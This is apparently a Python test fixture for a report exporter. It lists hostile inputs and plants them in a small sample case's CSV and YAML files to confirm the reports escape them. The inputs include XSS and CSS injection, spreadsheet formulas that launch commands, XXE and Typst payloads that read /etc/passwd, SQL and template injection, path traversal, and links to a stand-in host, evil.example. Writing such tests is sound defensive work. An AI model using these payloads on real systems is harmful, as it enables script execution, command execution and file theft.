"""Text that tries to get out of its place: into a script, an attribute, a link, a template, a spreadsheet formula."""

from __future__ import annotations

import json
from itertools import cycle
from pathlib import Path

from examples import edit, read_rows, replace

SCRIPT = "<script>alert(1)</script>"
LINK = "<a href='javascript:alert(2)'>x</a>"
EVENT = '"><img src=x onerror=alert(3)>'
FORMULA = '=HYPERLINK("http://evil.example")'

# What must come out as it went in. What no reader can see, or what turns the direction of a text, is refused at
# reading instead: see `test_hostile_inputs`.
HOSTILE = {
    "script": SCRIPT,
    "link": LINK,
    "handler": EVENT,
    "formula": FORMULA,
    "closed script": "</script><script>alert(5)</script>",
    "split script": "<scr<script>ipt>alert(6)</scr</script>ipt>",
    "upper-case script": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "svg": "<svg onload=alert(7)><animate onbegin=alert(8)></svg>",
    "iframe": '<iframe srcdoc="<script>alert(9)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(10)</script>"></object>',
    "math": "<math><mtext></p><style><img src onerror=alert(11)></style></mtext></math>",
    "style": "</style><style>*{background:url(//evil.example)}</style>",
    "import": "@import url(//evil.example/x.css);",
    "expression": "width:expression(alert(12))",
    "css end": '"}body{display:none}@page{margin:0}/*',
    "form": '<form action="//evil.example"><input name=x autofocus onfocus=alert(13)></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "base": '<base href="//evil.example/">',
    "comment": "--> --!> ]]> <!-- x",
    "closers": "</title></svg></figure></table></article></main></body></html>",
    "entity": "&lt;script&gt; &#60;b&#62; &amp;amp; AT&T; &nbsp;&bogus;",
    "doctype": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;<![CDATA[x]]>',
    "javascript": "javascript:alert(14)",
    "javascript in odd case": "JaVaScRiPt:alert(15)//",
    "javascript by entity": "&#106;avascript:alert(16)",
    "data address": "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript": "vbscript:msgbox(17)",
    "markdown": "[x](javascript:alert(18)) ![x](//evil.example/x.png)",
    "autolink": "<javascript:alert(19)>",
    "plotly markup": "<br><b>bold</b><sup>x</sup><a href='https://evil.example'>x</a>",
    "plotly fields": "%{customdata} %{text} %{x:.2f} <extra></extra>",
    "jinja": "{{ 7*7 }} {% raw %} {{ config }} {# x #}",
    "format": "{0} {n} {actor} ${x} $(id) `id` %s %(x)s %%",
    "math mode": r"$$\frac{1}{2}$$ \(x\) \input{/etc/passwd}",
    "placeholders of the exporter": '<span class="see" data-see="tab-events"></span><div class="lists"></div>',
    "drawing of the exporter": '<span data-drawing="0"></span>',
    "caption of the exporter": '<caption id="tab-x"><b class="number"></b> x</caption>',
    "mark of the exporter": '<a href="#E1" tabindex="-1">x</a><div class="plot narrow"></svg></div>',
    "command formula": "=cmd|' /C calc'!A0",
    "plus formula": "+1+cmd|' /C calc'!A0",
    "minus formula": '-2+3+HYPERLINK("http://evil.example")',
    "at formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cells": 'a","=1+1","b',
    "semicolons": "a;=1+1;b\\t=1+1",
    "sql": "'; DROP TABLE events; --",
    "path": "../../../etc/passwd ..\\..\\windows",
    "numbers": "1.500 rockets, 3.14159, 192.168.100.1",
    "styles of a drawing": "opacity: 1; font-family: x; white-space: pre; stroke: red;",
    "ids of a drawing": 'id="defs-abcdef" trace scatter tracedeadbeef style=""',
}
# What would be markup or code in a file of Typst (https://typst.app/docs/reference/syntax/).
TYPST = {
    "import": '#import "@preview/evil:0.1.0": *',
    "include": '#include "/etc/passwd"',
    "read": '#read("/etc/passwd")',
    "code": "#{ panic() }",
    "let": "#let x = 1",
    "show": "#show: it => none",
    "set": "#set page(width: 1pt)",
    "eval": '#eval("1+1")',
    "math": "$ x^2 $ $integral_0^1$",
    "raw": "`raw` ```typ #panic()```",
    "label": "<label> @reference",
    "bold": "*bold* _emph_",
    "heading": "= Heading",
    "list": "- item + item / term: x",
    "brackets": "[content] (a, b) {c}",
    "escape": r"\u{1F600} \ \#",
    "comment": "// comment /* block */",
    "shorthands": "~ -- --- ... -?",
    "address": "https://evil.example/x",
    "quotes": '"double" \'single\' "',
}
# The last one no font of the reports can draw: it stands in the tables only.
FORMULAS = [*(text for text in HOSTILE.values() if text[0] in "=+-@"), "＝1+1"]
JOINED = " ¦ ".join(HOSTILE.values())


def poison(project: Path) -> None:
    """Write hostile text into everything of the tiny case that a report shows."""
    inputs = project / "data" / "cases" / "tiny"
    labels = cycle(
        HOSTILE[name] for name in ("formula", "handler", "numbers", "styles of a drawing", "jinja", "closers")
    )
    for row in read_rows(inputs / "events.csv"):
        text = next(labels)
        edit(inputs / "events.csv", row["event_id"], summary_en=text, summary_de=text)
    edit(inputs / "events.csv", "E5", summary_en=f"{SCRIPT} & %{{x}}", summary_de=SCRIPT)
    edit(inputs / "conditions.csv", "C1", summary_en=LINK, summary_de=LINK)
    edit(
        inputs / "sources.csv",
        "T1",
        title=SCRIPT,
        publisher=EVENT,
        reporter=LINK,
        url='https://e.org/"onclick="alert(4)',
    )
    edit(inputs / "sources.csv", "T2", title=JOINED, author=FORMULA, reliability_reason_en=JOINED)
    for mention, text in zip(("t01", "t03", "t04", "t05", "t06", "t10", "t11", "t12"), FORMULAS, strict=True):
        edit(inputs / "mentions.csv", mention, reason=text)
    edit(inputs / "mentions.csv", "t08", reason=FORMULA, quote_en=SCRIPT)
    edit(inputs / "decisions.csv", "d1", reason=JOINED, by=EVENT)
    replace(inputs / "texts" / "T2.en.txt", "Israel hit", f"Israel {SCRIPT} hit")
    replace(inputs / "judgements.yml", "Help would bring thanks and trouble.", f'"{SCRIPT} {LINK}"')
    replace(inputs / "judgements.yml", "en: Will Israel attack again?", f"en: {json.dumps(JOINED)}")
    replace(inputs / "judgements.yml", "en: Help for Iran}", f'en: "{LINK}"}}')
    replace(inputs / "judgements.yml", "en: Tests of Lagebild}", f"en: {json.dumps(HOSTILE['meta'])}}}")
    replace(inputs / "case.yml", "  en: Tiny case\n", f"  en: '{EVENT} {SCRIPT}'\n")
    replace(inputs / "case.yml", "  en: What can a tiny case show?\n", f"  en: {json.dumps(HOSTILE['css end'])}\n")
    replace(inputs / "case.yml", "en: Iran – Israel}", f'en: "{LINK}"}}')
    edit(project / "data" / "reference" / "actors.csv", "IRN", name_en=f"Iran {SCRIPT} {LINK}")
